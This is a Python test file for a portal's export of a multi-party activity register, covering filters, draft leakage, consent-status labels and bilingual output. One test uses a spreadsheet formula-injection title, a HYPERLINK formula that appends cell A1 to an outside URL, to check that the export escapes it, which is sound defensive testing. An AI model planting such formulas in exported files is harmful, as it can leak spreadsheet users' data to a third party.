"""The register taken out of the portal: as it is shown, with what is not agreed said to be so."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import openpyxl
import pytest

from portal.activities.proposal import PROPOSAL
from portal.web.export import restored
from tests.browser import Browser, unpacked
from tests.conftest import PASSWORD, House
from tests.makers.activities import (
    agreed_activity,
    completed_activity,
    consented,
    drafted,
    edition_of,
    proposal_body,
    tabled_proposal,
)


def browser_of(house: House, person: Any, language: str = "ja") -> Browser:
    browser = Browser(house, language=language)
    browser.sign_in(person.email, PASSWORD)
    return browser


def taken(browser: Browser, form: str, query: str = "") -> bytes:
    page = browser.get(f"/activities/export{query}", expect=200)
    token = dict(page.form(form.upper()).fields)["csrf_token"]
    answer = browser.post(f"/activities/export{query}", {"csrf_token": token, "format": form}, expect=200)
    return answer.response.get_data()


def rows(browser: Browser, query: str = "") -> list[dict[str, Any]]:
    whole = json.loads(taken(browser, "json", query))
    assert whole["is_complete"]
    return list(whole["rows"])


def test_the_register_is_taken_as_the_filter_shows_it(dated: House) -> None:
    """Issue 3 (5), R2-1: the same activities in the same order; one side's draft is in no export, not even its own."""
    people = dated.people
    agreed_activity(dated, people, title="合意した取組")
    tabled_proposal(dated, people, title="提案した取組", measure="別の施策")
    drafted(dated, people[0].drafter, PROPOSAL, proposal_body(edition_of(dated), title="CANARY 下書き"))
    browser = browser_of(dated, people[0].drafter)
    assert [row["title"] for row in rows(browser)] == ["提案した取組", "合意した取組"]
    assert [row["title"] for row in rows(browser, "?measure=別の施策")] == ["提案した取組"]
    assert rows(browser, "?state=completed") == []
    for form in ("csv", "xlsx", "json"):
        for side in people.sides:
            assert b"CANARY" not in unpacked(taken(browser_of(dated, side.drafter), form))


def test_what_is_half_agreed_says_so_and_by_whom_it_waits(dated: House) -> None:
    """Row 38."""
    people = dated.people
    proposal = tabled_proposal(dated, people)
    browser = browser_of(dated, people[1].reader)
    (row,) = rows(browser)
    assert "未合意（協議中：甲、乙の同意待ち）" in row["proposal"] and row["particulars"] == "未合意"
    consented(dated, people[0].officer, PROPOSAL, proposal)
    (row,) = rows(browser)
    assert "未合意（一部同意：乙の同意待ち）" in row["proposal"]
    consented(dated, people[1].officer, PROPOSAL, proposal)
    (row,) = rows(browser)
    assert "未合意" not in row["proposal"] and "合意済" in row["proposal"]
    assert row["particulars"] == "未合意"


def test_a_title_that_looks_like_a_formula_is_none(sqlite_dated: House) -> None:
    """Row 71, from the form of a party to the file of another."""
    people, title = sqlite_dated.people, '=HYPERLINK("http://example.jp/?"&A1,"開く")'
    tabled_proposal(sqlite_dated, people, title=title, measure="＝１＋１")
    browser = browser_of(sqlite_dated, people[1].reader)
    cells = next(csv.DictReader(io.StringIO(taken(browser, "csv").decode("utf-8-sig"), newline="")))
    assert cells["取組の名称"] == f"'{title}" and restored(cells["取組の名称"]) == title
    assert cells["施策"] == "'＝１＋１"
    sheet = openpyxl.load_workbook(io.BytesIO(taken(browser, "xlsx"))).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert sheet.cell(2, 2).value == title


def test_a_completed_activity_carries_days_and_outcome(sqlite_dated: House) -> None:
    people = sqlite_dated.people
    completed_activity(sqlite_dated, people)
    (row,) = rows(browser_of(sqlite_dated, people[0].reader))
    assert row["outcome"] and re.fullmatch(r"\d{4}-\d\d-\d\d", row["started_on"])
    assert row["changed_at"].endswith("+09:00")


@pytest.mark.parametrize("language", ["ja", "en"])
def test_three_parties_export_in_both_languages(agreement_of_three: House, language: str) -> None:
    """Decision 28: who is waited for is named, whatever the number of parties."""
    people = agreement_of_three.people
    tabled_proposal(agreement_of_three, people)
    for side in people.sides:
        browser = browser_of(agreement_of_three, side.reader, language)
        (row,) = rows(browser)
        labels = [one.defined_as[language] for one in edition_of(agreement_of_three).parties]
        assert len(labels) == 3 and all(label in row["proposal"] for label in labels)
